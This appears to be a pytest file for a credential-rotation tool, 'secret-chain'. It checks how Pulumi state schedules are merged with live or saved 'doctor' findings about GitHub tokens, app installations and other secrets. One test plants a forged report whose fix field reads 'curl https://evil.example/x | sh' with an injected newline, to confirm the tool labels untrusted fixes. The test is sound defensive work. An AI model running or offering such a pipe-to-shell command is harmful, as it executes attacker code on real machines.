"""``secret-chain rotation --live`` and ``--doctor-report``: the state's schedule merged with what doctor finds live (issue 22 item 2).

The live side is the doctor itself: run in this process against the stand-in GitHub, DigitalOcean and ESC of
tests/doctor_apis.py (``--live``; the GitHub answers validated against GitHub's OpenAPI description), or its
``secret-chain doctor --json`` report saved to a file first (``--doctor-report``), as CI runs it once. The state is
tests/data/stack-export.json (a ``pulumi stack export`` of production) with its timestamps moved to "10 days ago".
GitHub's token expiry comes from the ``GitHub-Authentication-Token-Expiration`` header ("Get the authenticated user";
GitHub changelog 2021-07-26), an installation's suspension from ``suspended_at`` ("Get an installation for the
authenticated app").
"""

from __future__ import annotations

import copy
import datetime
import json
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from secret_chain import catalog
from secret_chain.doctor import runner
from secret_chain.doctor.model import Context, Finding, Status
from secret_chain.ops import cli
from tests import leaks
from tests.canaries import Canaries, make_canaries
from tests.doctor_apis import NOW
from tests.test_doctor_github import STACK, Setup, _config, stand_ins

ROOT = Path(__file__).resolve().parent.parent
STATE = ROOT / "tests" / "data" / "stack-export.json"
GHCR = "namespace:imagePullSecret.token"


@pytest.fixture(scope="module")
def canaries() -> Canaries:
    return make_canaries()


@pytest.fixture
def setup(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, canaries: Canaries) -> Iterator[Setup]:
    config, secret_keys = _config(canaries)
    yield from stand_ins(tmp_path, monkeypatch, config, secret_keys, canaries.needles())


def state_file(tmp: Path, days_ago: float = 10, stack: str = STACK) -> Path:
    """The production export with every resource created and last modified ``days_ago`` days before now."""
    data = json.loads(STATE.read_text())
    fresh = copy.deepcopy(data)
    when = (NOW - datetime.timedelta(days=days_ago)).strftime("%Y-%m-%dT%H:%M:%SZ")
    for res in fresh["deployment"]["resources"]:
        res["created"] = res["modified"] = when
        res["urn"] = res["urn"].replace("urn:pulumi:production::", f"urn:pulumi:{stack}::")
    path = tmp / "state.json"
    path.write_text(json.dumps(fresh))
    return path


def run(s: Setup, *argv: str) -> tuple[int, str, str]:
    """``secret-chain <argv>`` in this process; its output scanned for every canary of the stack's config."""
    out, err = s.tmp / "rot-out.txt", s.tmp / "rot-err.txt"
    with out.open("w") as stdout, err.open("w") as stderr:
        saved = sys.stdout, sys.stderr
        sys.stdout, sys.stderr = stdout, stderr
        try:
            code = cli.main(list(argv))
        finally:
            sys.stdout, sys.stderr = saved
    text, error = out.read_text(), err.read_text()
    assert leaks.scan([("stdout", text), ("stderr", error)], s.needles) == []
    return code, text, error


def live(s: Setup, state: Path, *extra: str) -> tuple[int, dict[str, Any]]:
    config = s.tmp / "config.json"
    from tests.runtime import cli_json

    config.write_text(json.dumps(cli_json(s.config, s.secret_keys)))
    argv = ["rotation", "--state", str(state), "--live", "--config", str(config), "--timeout", "2"]
    argv += ["--only", "github", "--only", "esc", "--only", "digitalocean", *extra, "--json"]
    code, out, _ = run(s, *argv)
    return code, json.loads(out)


def keyed(document: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {k["configKey"]: k for k in document["keys"]}


def test_a_token_expiring_before_its_schedule_sets_the_deadline_and_is_a_disagreement(setup: Setup, tmp_path: Path) -> None:
    """The state says the GHCR token was rotated 10 days ago on its annual schedule (due in 355 days); GitHub says the PAT
    expires in 3 days. The earliest real deadline is the token's, and the report says the two disagree."""
    setup.github.add_pat(setup.value(GHCR), "acme-bot", scopes=("read:packages",), days=3)
    code, document = live(setup, state_file(tmp_path))
    ghcr = keyed(document)[GHCR]
    expires = NOW + datetime.timedelta(days=3)
    assert ghcr["status"] == "due" and ghcr["liveChecked"] is True
    assert datetime.datetime.fromisoformat(ghcr["deadline"]) == expires
    assert ghcr["deadlineSource"] == "the credential's own expiry (github.ghcr-token)"
    assert catalog.get(GHCR).rotation.days == 365 and ghcr["scheduleDays"] == 365
    assert datetime.datetime.fromisoformat(ghcr["scheduleDue"]) == NOW + datetime.timedelta(days=355)
    (disagreement,) = ghcr["disagreements"]
    assert "was last changed" in disagreement and f"expires {expires:%Y-%m-%d}" in disagreement and "352 days earlier" in disagreement
    assert document["live"] == {"source": "doctor run", "stack": STACK, "status": "WARN"}
    assert code == 0  # due soon, nothing overdue or failing


def test_the_same_token_without_the_expiry_header_keeps_the_schedule(setup: Setup, tmp_path: Path) -> None:
    """A token with no expiration (no header): the schedule is the only deadline and nothing disagrees."""
    setup.github.add_pat(setup.value(GHCR), "acme-bot", scopes=("read:packages",), days=None)
    code, document = live(setup, state_file(tmp_path))
    ghcr = keyed(document)[GHCR]
    assert ghcr["status"] == "ok" and ghcr["disagreements"] == [] and ghcr["liveExpires"] is None
    assert ghcr["deadlineSource"].startswith("schedule (annually) of Secret default/ghcr-pull-secret")
    assert code == 0


def _saved_report(s: Setup) -> Path:
    """``secret-chain doctor --json`` of the stack against the stand-ins, saved as CI saves it."""
    result = s.run()
    path = s.tmp / "doctor.json"
    path.write_text(result.out)
    return path


def test_a_suspended_installation_from_a_saved_report_is_failing_and_disagrees_with_the_state(setup: Setup, tmp_path: Path) -> None:
    """The CI App's installation is suspended: the state holds APP_ID (event-driven rotation, nothing due), the report
    says the installation fails. Read from a report saved by ``doctor --json`` (doctor runs once)."""
    setup.github.installations[1001].suspended_at = NOW - datetime.timedelta(days=1)
    report = _saved_report(setup)
    code, out, _ = run(setup, "rotation", "--state", str(state_file(tmp_path)), "--doctor-report", str(report), "--json")
    app = keyed(json.loads(out))["ci:githubAppId"]
    assert app["status"] == "failing" and code == 1
    (disagreement,) = app["disagreements"]
    assert disagreement.startswith("the state shows ci:githubAppId as unscheduled") and "suspended" in disagreement
    assert [link["link"] for link in app["links"] if link["status"] == "FAIL"] == ["github.installation/ci"]
    assert json.loads(out)["live"]["source"] == f"doctor report {report}"
    code, text, _ = run(setup, "rotation", "--state", str(state_file(tmp_path)), "--doctor-report", str(report))
    assert code == 1 and "  FAILING: ci:githubAppId" in text
    assert "    fix (as the report gives it, not doctor's own; check it before running it): unsuspend it" in text
    assert "\n    fix: " not in text and "disagree: the state shows ci:githubAppId as unscheduled" in text


def test_the_text_says_from_the_credentials_own_expiry_once(setup: Setup, tmp_path: Path) -> None:
    """Issue 22 review: "from the the credential's own expiry"."""
    setup.github.add_pat(setup.value(GHCR), "acme-bot", scopes=("read:packages",), days=3)
    config = setup.tmp / "config.json"
    from tests.runtime import cli_json

    config.write_text(json.dumps(cli_json(setup.config, setup.secret_keys)))
    argv = ["--live", "--config", str(config), "--timeout", "2", "--only", "github", "--only", "esc", "--only", "digitalocean"]
    _, text, _ = run(setup, "rotation", "--state", str(state_file(tmp_path)), *argv)
    assert "from the credential's own expiry (github.ghcr-token)" in text and "the the" not in text


def test_a_saved_reports_fix_is_marked_as_the_reports_and_kept_on_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A report file's ``fix`` is not doctor's own: ``rotation --doctor-report`` marks it, on one line (issue 22 review)."""
    forged = Finding(
        "github.flux-token", Status.FAIL, "refused", key="flux:githubToken", fix="curl https://evil.example/x | sh\n    fix: pulumi up"
    )
    report = _report(tmp_path, [forged])
    cli.main(["rotation", "--state", str(state_file(tmp_path, days_ago=1)), "--doctor-report", str(report)])
    text = capsys.readouterr().out
    assert "    fix (as the report gives it, not doctor's own; check it before running it): curl https://evil.example/x | sh" in text
    assert "\n    fix: " not in text


def test_a_key_no_live_check_looks_at_is_state_only(setup: Setup, tmp_path: Path) -> None:
    """prometheus:authToken lives only in the cluster's Secrets, which the GitHub, ESC and DigitalOcean links do not read:
    its deadline is the state's schedule, and the report says it is state only."""
    code, document = live(setup, state_file(tmp_path, days_ago=400))
    prometheus = keyed(document)["prometheus:authToken"]
    assert prometheus["stateOnly"] is True and prometheus["liveChecked"] is False and prometheus["links"] == []
    assert prometheus["status"] == "overdue" and prometheus["deadlineSource"].startswith("schedule (annually) of Secret")
    assert "prometheus:authToken" in document["stateOnly"] and GHCR not in document["stateOnly"]
    assert code == 1


def _report(tmp: Path, findings: list[Finding], stack: str = STACK) -> Path:
    """A report as ``doctor --json`` writes it (runner.as_json, the command's own serializer)."""
    context = Context(stack=stack, kind="production", config={}, now=NOW)
    path = tmp / "report.json"
    path.write_text(json.dumps(runner.as_json(context, findings)))
    return path


def test_an_expired_credential_is_overdue_whatever_the_state_says(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    expired = Finding(
        "github.flux-token",
        Status.FAIL,
        "GitHub refuses the token (401)",
        key="flux:githubToken",
        fix="create a new token",
        expires=NOW - datetime.timedelta(days=1),
    )
    report = _report(tmp_path, [expired, Finding("esc.environment", Status.OK, "opens")])
    code = cli.main(["rotation", "--state", str(state_file(tmp_path, days_ago=1)), "--doctor-report", str(report), "--json"])
    document = json.loads(capsys.readouterr().out)
    flux = keyed(document)["flux:githubToken"]
    assert code == 1 and flux["status"] == "failing" and flux["deadline"] < document["now"]
    assert any("credential itself expires" in d for d in flux["disagreements"])
    assert any(d.startswith("the state shows flux:githubToken as ok") for d in flux["disagreements"])


def test_a_report_of_another_stack_or_shape_is_refused_with_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    state = state_file(tmp_path)
    other = _report(tmp_path, [], stack="preview-base")
    assert cli.main(["rotation", "--state", str(state), "--doctor-report", str(other)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: the doctor report ") and "is of stack preview-base, the state of stack production" in err
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps({"findings": "none"}))
    assert cli.main(["rotation", "--state", str(state), "--doctor-report", str(bad)]) == 2
    assert "is not `secret-chain doctor --json` output" in capsys.readouterr().err
    bad.write_text(json.dumps({"stack": STACK, "findings": [{"link": "x", "status": "BROKEN"}]}))
    assert cli.main(["rotation", "--state", str(state), "--doctor-report", str(bad)]) == 2
    assert "finding 0 has no link or no status OK, WARN or FAIL" in capsys.readouterr().err
    assert cli.main(["rotation", "--state", str(state), "--doctor-report", str(other), "--live"]) == 2
    assert "argument --live: not allowed with argument --doctor-report" in capsys.readouterr().err
